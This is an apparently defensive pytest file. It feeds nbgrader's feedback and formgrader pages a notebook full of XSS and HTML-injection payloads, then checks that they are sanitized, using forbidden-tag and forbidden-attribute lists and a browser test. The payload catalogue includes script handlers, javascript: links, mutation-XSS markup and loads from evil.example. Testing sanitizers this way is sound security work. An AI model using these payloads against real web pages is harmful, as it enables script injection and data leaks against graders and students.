"""A notebook full of hostile HTML, as a feedback page and as formgrader's page show it."""

from __future__ import annotations

import contextlib
import json
import os
import re
import sys
import warnings
from base64 import b64decode
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import nbformat
import numpy as np
import pytest
from bs4 import BeautifulSoup, Tag
from jinja2 import Template
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from sqlalchemy.exc import SAWarning

from coursekit.checking.differences import Difference, array_difference, shape_difference
from coursekit.checking.display import as_html
from coursekit.checking.verdicts import Check, CheckResult, Exercise, Verdict
from coursekit.grading import cleaning
from coursekit.grading.cleaning import CleanSubmission, ansi2html, clean_html, markdown2html

LAB, STUDENT = "lab", "eve<b onclick=pwn()>x"
CONFIG = """
from coursekit.grading import configure
c = get_config()
configure(c, __file__)
"""
EVIL = "evil.example"
PWN = "window.pwned=1;alert(1)"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg=="
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'
    f' onload="{PWN}"><script>{PWN}</script><image href="https://{EVIL}/s.png"/><use xlink:href="https://{EVIL}/u#a"/>'
    f'<style>@import url(https://{EVIL}/s.css);</style><circle r="4" fill="red"/></svg>'
)

#: Each is tried as markdown, as HTML output and as markdown output.
SNIPPETS = {
    "script": f"<script>{PWN}</script>",
    "script from elsewhere": f'<script src="https://{EVIL}/x.js"></script>',
    "module script": f'<script type="module">import "https://{EVIL}/x.mjs"</script>',
    "script in odd case": f"<ScRiPt >{PWN}</sCrIpT >",
    "nested script tags": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "MathJax configuration": f'<script type="text/x-mathjax-config">{PWN}</script>',
    "broken image's handler": f'<img src="x" onerror="{PWN}">',
    "handler after a slash": f"<img/src=x/onerror={PWN}>",
    "loading handler": f'<body onload="{PWN}">',
    "handler that needs no click": f'<details open ontoggle="{PWN}"><summary>s</summary></details>',
    "focused handler": f'<div tabindex="1" autofocus onfocus="{PWN}">x</div>',
    "animation's handler": f'<p style="animation-name:x" onanimationstart="{PWN}">x</p>',
    "marquee": f'<marquee onstart="{PWN}">x</marquee>',
    "javascript link": f'<a href="javascript:{PWN}">x</a>',
    "javascript link in disguise": f'<a href="jav&#x09;ascript:{PWN}">x</a>',
    "javascript link behind a control character": f'<a href="&#1;javascript:{PWN}">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": f'<a href="data:text/html,<script>{PWN}</script>">x</a>',
    "link that nbconvert would shorten to javascript": f'<a href="files/javascript:{PWN}">x</a>',
    "link into the course": '<a href="../../gradebook.db">x</a>',
    "link to the server": '<a href="/api/shutdown">x</a>',
    "link without a scheme": f'<a href="//{EVIL}/">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "ping": f'<a href="https://ok.example" ping="https://{EVIL}/p">x</a>',
    "markdown javascript link": f"[x](javascript:{PWN.replace('(', '%28').replace(')', '%29')})",
    "markdown image from elsewhere": f"![x](https://{EVIL}/m.png)",
    "image from elsewhere": f'<img src="https://{EVIL}/i.png">',
    "image of the server's": '<img src="/logout">',
    "srcset": f'<img src="data:image/png;base64,{PIXEL}" srcset="https://{EVIL}/i.png 2x">',
    "picture with sources": f'<picture><source srcset="https://{EVIL}/p.png"><img alt="x"></picture>',
    "video": f'<video poster="https://{EVIL}/v.png" autoplay><source src="https://{EVIL}/v.mp4"></video>',
    "audio": f'<audio src="https://{EVIL}/a.mp3" autoplay></audio>',
    "old background": f'<table background="https://{EVIL}/b.png"><tr><td>x</td></tr></table>',
    "form": f'<form action="https://{EVIL}/f"><input name="score" value="9"><button>Log in</button></form>',
    "form from afar": f'<button form="f" formaction="javascript:{PWN}">x</button><input type="image" src="//{EVIL}/i">',
    "text area that ends early": f"<textarea></textarea><img src=x onerror={PWN}>",
    "select": "<select><option>10 / 10</option></select>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    "base": f'<base href="https://{EVIL}/">',
    "style sheet link": f'<link rel="stylesheet" href="https://{EVIL}/s.css">',
    "prefetch": f'<link rel="prefetch" href="https://{EVIL}/p"><link rel="dns-prefetch" href="//{EVIL}">',
    "frame": f'<iframe src="https://{EVIL}/"></iframe>',
    "frame with a page inside": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "object": f'<object data="https://{EVIL}/o.svg" type="image/svg+xml"></object>',
    "embed": f'<embed src="https://{EVIL}/e.swf">',
    "style that hides the scores": "<style>.panel-heading{display:none}</style>",
    "style that imports": f'<style>@import "https://{EVIL}/s.css";</style>',
    "font from elsewhere": f"<style>@font-face{{font-family:f;src:url(https://{EVIL}/f)}}</style>",
    "style that loads": f'<p style="background:url(https://{EVIL}/b.png)">x</p>',
    "style that loads, escaped": f'<p style="background:u\\72l(https://{EVIL}/b.png)">x</p>',
    "style that loads a set": f"<p style=\"background-image:image-set('https://{EVIL}/b.png' 1x)\">x</p>",
    "style that loads a bullet": f'<ul><li style="list-style:url(https://{EVIL}/b.png)">x</li></ul>',
    "style after a comment": f'<p style="color:red/*;*/;background:url(https://{EVIL}/b)/**/">x</p>',
    "style that exhausts its parser": f'<p style="position:fixed;width:{"calc(" * 3000}">x</p>',
    "cover": '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">10 / 10</div>',
    "shift": '<div style="position:relative;top:-900px;transform:translateY(-900px)">10 / 10</div>',
    "fixed by a class": '<div class="navbar-fixed-top modal in"><span class="score">10 / 10</span></div>',
    "a score box's id": f'<div id="{LAB}"></div><a name="top">x</a><b id="written">x</b>',
    "a name that shadows the page's": '<a id="submission_id"></a><img name="base_url">',
    "formgrader's own attributes": f'<a data-link="javascript:{PWN}" data-toggle="tooltip">x</a>',
    "tags that end the page": '</div></div></div></div></body></html><div class="panel-heading">Score</div>',
    "comment that does not end": "<!-- <b>x",
    "comment with a script": f"<!--><script>{PWN}</script>-->",
    "inline drawing": SVG,
    "drawing that does not end": f'<svg><animate onbegin="{PWN}"><a xlink:href="javascript:{PWN}"><text>x</text></a>',
    "MathML": f'<math href="javascript:{PWN}"><mi xlink:href="javascript:{PWN}">x</mi></math>',
    "markup that changes when it is read twice": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">'
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
    "template": f"<template><script>{PWN}</script></template>",
    "formula that loads": f'$\\mmlToken{{mglyph}}[src="https://{EVIL}/g.png"]{{}}$',
    "formula that loads, in pieces": f'$\\mml<wbr>Tok<!-- -->en{{mglyph}}[src="https://{EVIL}/g.png"]{{}}$',
    "dialog": '<dialog open style="position:fixed">Session expired</dialog>',
    "diagram": f"```mermaid\n<img src=x onerror={PWN}>\n```",
    "heading": f"# <img src=x onerror={PWN}> heading",
    "code block's language": f'```"><img/src=x/onerror={PWN}>\nx\n```',
}


def shown(data: Mapping[str, Any], **more: Any) -> Any:
    output = new_output("display_data", data=dict(data))
    output.update(more)
    return nbformat.from_dict(output)


OUTPUTS = {
    "javascript": shown({"application/javascript": PWN, "text/plain": "kept"}),
    "javascript alone": shown({"application/javascript": PWN}),
    "widget": shown({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": "kept"}),
    "another type": shown({f"text/<script>{PWN}</script>": "x"}),
    "drawing": shown({"image/svg+xml": SVG}),
    "drawing in a file": shown({"image/svg+xml": "<svg/>"}, svg_filename=f"https://{EVIL}/d.svg"),
    "picture in a file": shown(
        {"image/png": PIXEL}, metadata={"filenames": {"image/png": f"https://{EVIL}/p.png"}, "width": f"1 onload={PWN}"}
    ),
    "picture's width": shown({"image/png": PIXEL}, metadata={"image/png": {"width": f"1 onload={PWN}", "height": 7}}),
    "picture's data": shown({"image/jpeg": f'" onerror="{PWN}'}),
    "page of its own": shown({"text/html": f"<script>{PWN}</script>"}, metadata={"text/html": {"isolated": True}}),
    "formula": shown({"text/latex": f"$\\mmlToken{{mglyph}}[src='https://{EVIL}/g.png']{{}}$<script>{PWN}</script>"}),
    "plain": shown({"text/plain": f"<script>{PWN}</script>"}),
    "stream": new_output(
        "stream", name="stdout", text=f"<script>{PWN}</script>\x1b[31m<img src=x onerror={PWN}>\x1b[38m"
    ),
    "traceback": new_output("error", ename="<b>", evalue="<b>", traceback=[f"\x1b[0;31m<script>{PWN}</script>"]),
}
ATTACHED = {"a": {f'text/html,"><script>{PWN}</script>': "eA=="}}
CELLS = {
    "tags": new_markdown_cell("tags:", metadata={"tags": ["x navbar-fixed-top modal", f'"><script>{PWN}</script>']}),
    "attachment": new_markdown_cell("attachment:\n\n![x](attachment:a)", attachments=ATTACHED),
    "missing attachment": new_markdown_cell(f"missing attachment:\n\n![x](attachment:b)<script>{PWN}</script>"),
    "half a character": new_markdown_cell("half a character:\n\n\ud800x"),
}
RAW = new_raw_cell(f"raw cell <script>{PWN}</script><b onclick='{PWN}'>x</b>")


def verdict_table() -> str:
    def rows_are_distributions(student: Any, rng: Any) -> None:
        """Every row is a probability distribution."""

    check = Check("softmax", rows_are_distributions)
    got, expected = np.array([[1.0, np.nan]]), np.array([[1.0, 2.0]])
    differences: list[Difference] = [array_difference(got, expected, got == expected), shape_difference((8,), (8, 10))]
    results = [
        *(CheckResult(check, passed=False, message="No.", hint="Try.", difference=drawn) for drawn in differences),
        CheckResult(check, passed=False, message="No.", expected="[1 2]", got="<b>", hint="Try."),
        CheckResult(check, passed=True),
    ]
    return as_html(Verdict(Exercise("softmax", 2, (check,) * 4), tuple(results)))


FRAME = (
    '<table border="1" class="dataframe">\n<thead>\n<tr style="text-align: right;"><th></th><th>loss</th></tr></thead>'
    '<tbody><tr><th scope="row">0</th><td colspan="2">0.25</td></tr></tbody></table>'
)
#: What a student may well write, and a part of it that must still stand in the page.
HARMLESS = {
    "bold": ("**bold** and *slanted*", "<strong>bold</strong> and <em>slanted</em>"),
    "HTML": (
        '<b>b</b> <font color="red">r</font> a<sub>i</sub><sup>2</sup>',
        '<font color="red">r</font> a<sub>i</sub>',
    ),
    "centred": ('<center><h2 align="center">t</h2></center>', '<h2 align="center">t</h2>'),
    "list": ("1. one\n2. two\n    - three", "<ul>\n<li>three</li>\n</ul>"),
    "task list": ("- [x] done\n- [ ] not", "<li>[x] done</li>"),
    "table": ("| a | b |\n|---|--:|\n| 1 | 2 |", '<td style="text-align:right">2</td>'),
    "data frame": (FRAME, '<th scope="row">0</th><td colspan="2">0.25</td>'),
    "code": ("```python\nimport numpy\n```", '<span class="kn">import</span>'),
    "code in a line": ("`a < b`", "<code>a &lt; b</code>"),
    "formula in a line": ("$a<b$ and $x_1 & \\mathbf{y}_2$", "$a&lt;b$ and $x_1 &amp; \\mathbf{y}_2$"),
    "formula on its own": ("$$\\sum_i x_i < 1$$", "$$\\sum_i x_i &lt; 1$$"),
    "environment": (
        "\\begin{align} a &= b \\\\ c &< d \\end{align}",
        "\\begin{align} a &amp;= b \\\\ c &amp;&lt; d \\end{align}",
    ),
    "picture": (f"![dot](data:image/png;base64,{PIXEL})", f'alt="dot" src="data:image/png;base64,{PIXEL}"'),
    "sized picture": (f'<img src="data:image/gif;base64,{PIXEL}" width="50%" alt="">', 'width="50%"'),
    "link": ("[x](https://ok.example/?a=1&b=2)", 'href="https://ok.example/?a=1&amp;b=2"'),
    "mail": ("<a@ok.example>", 'href="mailto:a@ok.example"'),
    "colours": (
        '<span style="color:#d55e00; background:rgba(0,0,0,.1)">x</span>',
        "color:#d55e00;background:rgba(0,0,0,.1)",
    ),
    "quotation": ("> so it is", "<blockquote>"),
    "details": ("<details open><summary>more</summary>x</details>", "<summary>more</summary>"),
    "unicode": ("naïve 数学 ∑ 😀", "naïve 数学 ∑ 😀"),
}

#: What becomes of the formulas among them where the page sets them itself.
SET = {
    "formula in a line": "<mi>a</mi><mo>&lt;</mo><mi>b</mi>",
    "formula on its own": '<math display="block">',
    "environment": "<mo>=</mo><mi>b</mi></mtd></mtr>",
}


def hostile_notebook() -> Any:
    """Every case in a cell or two of its own, and cells that are graded."""
    cells = [graded_cell("written", "hand-written <script>x</script> answer")]
    for name, text in {**SNIPPETS, **{name: text for name, (text, _) in HARMLESS.items()}}.items():
        outputs = [shown({"text/html": text}), shown({"text/markdown": text}), new_output("stream", text=text)]
        cells += [new_markdown_cell(f"{name}:\n\n{text}"), code_cell(f"# {name}", *outputs)]
    cells += [code_cell(f"# {name}", output) for name, output in OUTPUTS.items()]
    cells += [code_cell("check('softmax')", shown({"text/html": verdict_table()})), RAW, *CELLS.values()]
    widgets: dict[str, object] = {"application/vnd.jupyter.widget-state+json": {"state": {"m": {}}}}
    notebook = new_notebook(metadata={"widgets": widgets})
    notebook.cells = cells
    return notebook


def code_cell(source: str, *outputs: Any) -> Any:
    cell = new_code_cell(source)
    # Set later, because new_code_cell lets nothing pass that is not valid.
    cell.outputs = list(outputs)
    return cell


def graded_cell(slug: str, source: str) -> Any:
    details = {"grade_id": slug, "grade": True, "solution": True, "task": False, "locked": False, "points": 2}
    return new_markdown_cell(source, metadata={"nbgrader": details | {"schema_version": 3, "cell_type": "markdown"}})


@contextlib.contextmanager
def working_in(folder: Path) -> Iterator[None]:
    """Be an instructor who starts nbgrader in a course's folder."""
    with pytest.MonkeyPatch.context() as patch, contextlib.chdir(folder):
        patch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)
        patch.setenv("JUPYTER_CONFIG_DIR", str(folder / "jupyter"))
        yield


@pytest.fixture(scope="session")
def hostile_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course in which one student has handed in the hostile notebook."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "nbgrader_config.py").write_text(CONFIG)
    place = folder / "autograded" / STUDENT / LAB
    place.mkdir(parents=True)
    (place / f"{LAB}.ipynb").write_text(json.dumps(hostile_notebook()))
    (place / "timestamp.txt").write_text("2026-01-31 12:00:00 UTC")
    with working_in(folder):
        enter_into_gradebook(folder)
    return folder


def enter_into_gradebook(folder: Path) -> None:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{folder}/gradebook.db", "coursekit") as book:
        book.add_assignment(LAB)
        book.add_notebook(LAB, LAB)
        book.add_grade_cell("written", LAB, LAB, max_score=2, cell_type="markdown")
        book.add_solution_cell("written", LAB, LAB)
        book.add_student(STUDENT, first_name="<script>x</script>", last_name=f"<img src=x onerror={PWN}>")
        with warnings.catch_warnings():
            # nbgrader's own use of its database.
            warnings.simplefilter("ignore", SAWarning)
            book.add_submission(LAB, STUDENT)
        book.find_comment("written", LAB, LAB, STUDENT).manual_comment = f"Well, <script>{PWN}</script> **done**."
        book.db.commit()


@pytest.fixture(scope="session")
def feedback_page(hostile_course: Path) -> str:
    """What ``nbgrader generate_feedback`` writes."""
    from nbgrader.apps import GenerateFeedbackApp

    app = GenerateFeedbackApp()
    with working_in(hostile_course):
        app.initialize([LAB, "--log-level=ERROR"])
        app.start()
    return (hostile_course / "feedback" / STUDENT / LAB / f"{LAB}.html").read_text()


@pytest.fixture(scope="session")
def grading_page(hostile_course: Path) -> str:
    """What formgrader sends for grading by hand."""
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    formgrader, web = FormgradeExtension(), SimpleNamespace(settings={})
    formgrader.root_dir = str(hostile_course)
    with working_in(hostile_course):
        formgrader.initialize([])
        formgrader.init_tornado_settings(web)
    resources = {
        **{"assignment_id": LAB, "notebook_id": LAB, "submission_id": "1", "index": 0, "total": 1, "base_url": ""},
        **{"student": STUDENT, "last_name": f"<img src=x onerror={PWN}>", "first_name": "<script>x</script>"},
        "notebook_path": f'./autograded/{STUDENT}/"><script>{PWN}</script>',
    }
    notebook = hostile_course / "autograded" / STUDENT / LAB / f"{LAB}.ipynb"
    page, _ = web.settings["nbgrader_exporter"].from_filename(str(notebook), resources=resources)
    return str(page)


@pytest.fixture(scope="session")
def pages(feedback_page: str, grading_page: str) -> Mapping[str, BeautifulSoup]:
    return {name: BeautifulSoup(page, "html.parser") for name, page in page_texts(feedback_page, grading_page).items()}


def page_texts(feedback_page: str, grading_page: str) -> Mapping[str, str]:
    return {"feedback": feedback_page, "formgrader": grading_page}


both_pages = pytest.mark.parametrize("page", ["feedback", "formgrader"])

FORBIDDEN_TAGS = (
    "applet audio base body button canvas dialog embed form frame frameset head html iframe input link marquee math"
    " meta noscript object option picture portal script select slot source style svg template textarea title track"
    " video wbr"
)
FORBIDDEN_ATTRIBUTES = (
    "action autofocus background data for form formaction http-equiv is name ping poster slot srcdoc srcset tabindex"
    " target xlink:href"
)
#: Names that the pages' own styles and scripts give a meaning to.
FORBIDDEN_CLASSES = (
    "btn comment in modal navbar-fixed-top nbgrader-label nbgrader_cell panel panel-heading score tex2jax_process"
    " all cause check exercise first head mark none notice own points some total untried waits"
)
#: What formulas may be made of beside elements and text: nothing that loads, leads elsewhere or is drawn outside.
FORMULA_ATTRIBUTES = (
    "accent accentunder columnalign columnspacing display displaystyle fence largeop linethickness lspace mathvariant"
    " maxsize minsize movablelimits rowspacing rspace scriptlevel separator stretchy symmetric width"
)


def cells_of(page: BeautifulSoup) -> list[Tag]:
    return page.select("div.cell")


def outputs_of(cell: Tag) -> list[Tag]:
    """Return a cell's outputs, on formgrader's page and on ours."""
    return cell.select(".output_area") or cell.select(".output")


def offences(tree: Tag) -> list[str]:
    """Say what in a part of a page could act, load, reach beyond its place or be taken for the page's own."""
    found = []
    for tag in tree.find_all(True):
        if tag.name == "math" or tag.find_parent("math"):
            found += [
                f"{name}={value!r}" for name, value in tag.attrs.items() if name not in FORMULA_ATTRIBUTES.split()
            ]
            found += [f"<{tag.name}>"] if not re.fullmatch("math|m[a-z]+|none", tag.name) else []
            continue
        if is_box(tag):
            continue
        found += [f"<{tag.name}>"] if tag.name in FORBIDDEN_TAGS.split() else []
        found += [f"{name}={value!r}" for name, value in tag.attrs.items() if is_offence(name, value)]
    return found


def is_box(tag: Tag) -> bool:
    """Tell whether an element is the page's own, which keeps what is wide in its place, scrolled by keyboard too."""
    own = {"aria-label", "class", "role", "style", "tabindex"}
    box = tag.get("style") == "contain:paint;overflow:auto hidden" or tag.get("class") == ["formula"]
    return box and tag.get("tabindex", "0") == "0" and set(tag.attrs) <= own


def is_offence(name: str, value: str | list[str]) -> bool:
    if not isinstance(value, str):
        # A page's reader takes only classes apart.
        return not set(FORBIDDEN_CLASSES.split()).isdisjoint(value)
    if name == "id":
        return not value.startswith(("student:", "cell-id="))
    if name == "href":
        return not value.startswith(("https://ok.example", "#student:", "mailto:"))
    if name == "src":
        return not value.startswith("data:image/")
    if name == "style":
        return bool(re.search(r"url|image|src|position|transform|animation|z-index|[\\@<{]", value))
    return name.startswith(("on", "data-")) or name in FORBIDDEN_ATTRIBUTES.split()


def find_cells(page: BeautifulSoup, name: str) -> list[Tag]:
    """Return the markdown cell and the code cell of a case."""
    return [cell for cell in cells_of(page) if title_of(cell) in (f"{name}:", f"# {name}")]


def title_of(cell: Tag) -> str:
    code = cell.select_one(".input_area") or cell.select_one(".input")
    return (code or cell).get_text().strip().partition("\n")[0]


@both_pages
@pytest.mark.parametrize("name", SNIPPETS)
def test_a_hostile_snippet_is_gone(pages: Mapping[str, BeautifulSoup], page: str, name: str) -> None:
    found = find_cells(pages[page], name)
    assert len(found) == 2
    assert [offences(cell) for cell in found] == [[], []]


@both_pages
@pytest.mark.parametrize("name", OUTPUTS)
def test_a_hostile_output_is_gone(pages: Mapping[str, BeautifulSoup], page: str, name: str) -> None:
    (cell,) = find_cells(pages[page], name)
    assert offences(cell) == []
    assert outputs_of(cell)


@both_pages
@pytest.mark.parametrize("name", CELLS)
def test_a_hostile_cell_is_gone(pages: Mapping[str, BeautifulSoup], page: str, name: str) -> None:
    (cell,) = find_cells(pages[page], name)
    assert offences(cell) == []


@both_pages
def test_a_raw_cell_is_cleaned(pages: Mapping[str, BeautifulSoup], page: str) -> None:
    found = pages[page].find(string=re.compile("^raw cell"))
    assert found is not None
    assert found.parent is not None
    assert offences(found.parent) == []


@both_pages
def test_no_formula_loads_a_picture(pages: Mapping[str, BeautifulSoup], page: str) -> None:
    named = pages[page].find_all(string=re.compile(r"\\mmlToken"))
    # MathJax leaves code alone.
    assert [text for text in named if not text.find_parent(["pre", "code"])] == []


@both_pages
def test_nobody_elses_part_of_the_page_is_changed(pages: Mapping[str, BeautifulSoup], page: str) -> None:
    frame = BeautifulSoup(str(pages[page]), "html.parser")
    for cell in cells_of(frame):
        cell.decompose()
    acting = [str(tag) for tag in frame.find_all(["script", "style", "link", "iframe"])]
    attributes = [(name, str(value)) for tag in frame.find_all(True) for name, value in tag.attrs.items()]
    acting += [value for name, value in attributes if name in ("href", "src", "style") or name.startswith("on")]
    assert acting
    assert [text for text in acting if "pwn" in text or EVIL in text] == []


@both_pages
@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_work_stays(pages: Mapping[str, BeautifulSoup], page: str, name: str) -> None:
    kept = SET.get(name, HARMLESS[name][1]) if page == "feedback" else HARMLESS[name][1]
    markdown, _ = find_cells(pages[page], name)
    assert kept in str(markdown)
    assert offences(markdown) == []


@both_pages
def test_a_table_of_checks_keeps_every_style(pages: Mapping[str, BeautifulSoup], page: str) -> None:
    theirs = pages[page].select_one('[aria-label="Check of softmax"]')
    ours = BeautifulSoup(verdict_table(), "html.parser").select_one('[aria-label="Check of softmax"]')
    assert looks(theirs) == looks(ours)


def looks(tree: Any) -> list[Any]:
    """List a tree's tags, texts and styles, however they are spaced."""
    styles = [
        (tag.name, tag.get("role"), tag.get("aria-label"), tag.get("style", "").replace(" ", "").rstrip(";"))
        for tag in [tree, *tree.find_all(True)]
    ]
    return [tree.get_text(), styles]


@both_pages
def test_a_drawing_is_seen_as_a_picture(pages: Mapping[str, BeautifulSoup], page: str) -> None:
    pictures = [str(img["src"]) for cell in find_cells(pages[page], "inline drawing") for img in cell.select("img")]
    assert len(pictures) == 3
    assert all("<circle" in b64decode(source.partition(",")[2]).decode() for source in pictures)


@both_pages
def test_an_output_without_its_script_shows_what_else_it_has(pages: Mapping[str, BeautifulSoup], page: str) -> None:
    for name in ("javascript", "widget"):
        (cell,) = find_cells(pages[page], name)
        assert [area.get_text().strip() for area in outputs_of(cell)] == ["kept"]
    (alone,) = find_cells(pages[page], "javascript alone")
    assert "not shown here: application/javascript" in alone.get_text()


@both_pages
def test_a_links_address_learns_nothing_of_the_page(pages: Mapping[str, BeautifulSoup], page: str) -> None:
    links = [link for cell in cells_of(pages[page]) for link in cell.select('a[href^="http"]')]
    assert links
    assert {tuple(link["rel"]) for link in links} == {("noopener", "noreferrer", "nofollow")}


def test_a_comment_is_shown_without_its_script(pages: Mapping[str, BeautifulSoup]) -> None:
    comment = pages["feedback"].select_one(".comment")
    assert comment is not None
    assert "done" in comment.get_text()
    assert "<strong>done</strong>" in str(comment)
    assert offences(comment) == []


def test_a_students_name_is_text(pages: Mapping[str, BeautifulSoup]) -> None:
    name = pages["formgrader"].select_one("a.name-shown")
    assert name is not None
    assert name.get_text(strip=True).startswith("<img src=x onerror=")
    assert name.find_all(True) == []


def test_a_student_without_a_name_stays_without() -> None:
    _, resources = CleanSubmission().preprocess(new_notebook(), {"student": "ann", "first_name": None})
    assert resources == {"student": "ann", "first_name": None}


def test_score_boxes_are_the_pages_own(pages: Mapping[str, BeautifulSoup]) -> None:
    page = pages["formgrader"]
    assert [box["id"] for box in page.select("input.score")] == ["written"]
    assert len(page.select("#written")) == 1


def test_what_is_stored_is_left_alone(hostile_course: Path, feedback_page: str, grading_page: str) -> None:
    stored = (hostile_course / "autograded" / STUDENT / LAB / f"{LAB}.ipynb").read_text()
    assert [cell["source"] for cell in json.loads(stored)["cells"]] == [
        cell.source for cell in hostile_notebook().cells
    ]


@pytest.mark.parametrize("text", ["\x1b[38m red", "\x1b[31mx" * 100_000, "\x1b[" * 10])
def test_odd_colours_leave_the_text(text: str) -> None:
    assert "\x1b" not in ansi2html(text)


def test_colours_are_shown() -> None:
    assert ansi2html("\x1b[31m<b>\x1b[0m") == '<span class="ansi-red-fg">&lt;b&gt;</span>'


@pytest.mark.parametrize(
    "source",
    ["\\begin{a}" * 30_000, "\\\\[" * 30_000, "<b>" * 3_000, "> " * 3_000, "[" * 3_000, "![x](attachment:none)"],
    ids=["environments", "formulas", "tags", "quotations", "brackets", "attachment"],
)
def test_markdown_that_is_hard_to_render_is_shown_all_the_same(source: str) -> None:
    page = markdown2html(Template("").new_context(), source)
    assert page.startswith("<div")
    assert page.endswith("</div>")


@pytest.mark.parametrize("html", ["", "</div></div>", "<b><i>x", "<table><td>", "<p></b></p>", b"<b>bytes</b>"])
def test_clean_html_is_balanced(html: str | bytes) -> None:
    page = BeautifulSoup(clean_html(html), "html.parser")
    assert str(page) == clean_html(html)
    assert len(list(page.children)) == 1


def test_cleaning_twice_changes_nothing_that_is_seen() -> None:
    once = clean_html('<p style="color:red">a &amp; b <a href="https://ok.example">l</a></p>')
    assert once[once.index("<p") :].removesuffix("</div>") in clean_html(once)


#: Beside MathJax, everything that a page may ask for comes from where it lies.
HOME = "http://course.example"
STATIC = "/formgrader/static/"


@pytest.fixture
def browse(browser: Any, feedback_page: str, grading_page: str) -> Callable[[str], Any]:
    """A function that opens one of the pages, and returns it with what it asked for and which dialogs it opened."""
    import nbgrader.server_extensions.formgrader as formgrader

    static = Path(formgrader.__file__).parent / "static"
    texts = page_texts(feedback_page, grading_page)

    def answer(route: Any) -> None:
        path = route.request.url.removeprefix(HOME)
        if path.strip("/") in texts:
            route.fulfill(body=texts[path.strip("/")], content_type="text/html; charset=utf-8")
        elif path.startswith(STATIC):
            route.fulfill(path=static / path.removeprefix(STATIC).partition("?")[0])
        else:
            route.abort()

    def opened(name: str) -> tuple[Any, list[str], list[str]]:
        page = browser.new_page()
        requests: list[str] = []
        dialogs: list[str] = []

        def dismiss(dialog: Any) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.route("**", answer)
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", dismiss)
        page.goto(f"{HOME}/{name}", wait_until="load")
        return page, requests, dialogs

    return opened


@pytest.mark.browser
@both_pages
def test_nothing_of_a_students_runs_loads_or_covers(browse: Callable[[str], Any], page: str) -> None:
    opened, requests, dialogs = browse(page)
    opened.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    opened.wait_for_function("Array.from(document.images).every((image) => image.complete)")
    assert opened.evaluate("window.pwned") is None
    assert dialogs == []
    elsewhere = {url for url in requests if not url.startswith((HOME, "data:"))}
    assert {url.split("/")[2] for url in elsewhere} <= {"cdnjs.cloudflare.com"}
    assert [url for url in requests if EVIL in url or "logout" in url] == []
    # Whatever is drawn inside a cell stays inside it.
    assert (
        opened.evaluate(
            """() => Array.from(document.querySelectorAll('.cell *')).filter((element) =>
             ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(element).position)).length"""
        )
        == 0
    )
    opened.evaluate("window.scrollTo(0, 0)")
    assert opened.evaluate("document.elementFromPoint(640, 30).closest('.cell')") is None


# what takes too long


@pytest.mark.parametrize(
    "render",
    [clean_html, lambda text: markdown2html(Template("").new_context({"cell": {}}), text)],
    ids=["html", "markdown"],
)
def test_what_would_take_minutes_is_shown_as_it_was_typed(
    render: Callable[[str], str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cleaning, "_PAGE_S", 0.5)
    page = render("<ul><li>" * 40_000)
    assert "&lt;ul&gt;&lt;li&gt;" in page
    assert len(page) < 1_000_000


def test_what_is_long_and_harmless_is_rendered(monkeypatch: pytest.MonkeyPatch) -> None:
    # Whatever other pages have left of their time, and however busy the machine is.
    monkeypatch.setattr(cleaning, "_PAGE_S", 60.0)
    monkeypatch.setattr(cleaning._page, "left_s", 60.0)
    page = clean_html("<p>one</p><script>alert(1)</script>" * 3_000)
    assert page.count("<p>one</p>") == 3_000
    assert "script" not in page


def test_the_texts_of_a_page_have_a_time_together(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cleaning._page, "left_s", 0.0)
    assert "&lt;b&gt;" in clean_html("<b>bold</b>")
    CleanSubmission().preprocess(new_notebook(cells=[new_markdown_cell("x")]), {})
    assert "<b>bold</b>" in clean_html("<b>bold</b>")


def test_of_a_long_cell_a_page_shows_the_beginning() -> None:
    notebook, _ = CleanSubmission().preprocess(new_notebook(cells=[new_code_cell("x = 1\n" * 50_000)]), {})
    assert len(notebook.cells[0].source) < 101_000
    assert notebook.cells[0].source.endswith("(… and 200,000 characters more)")
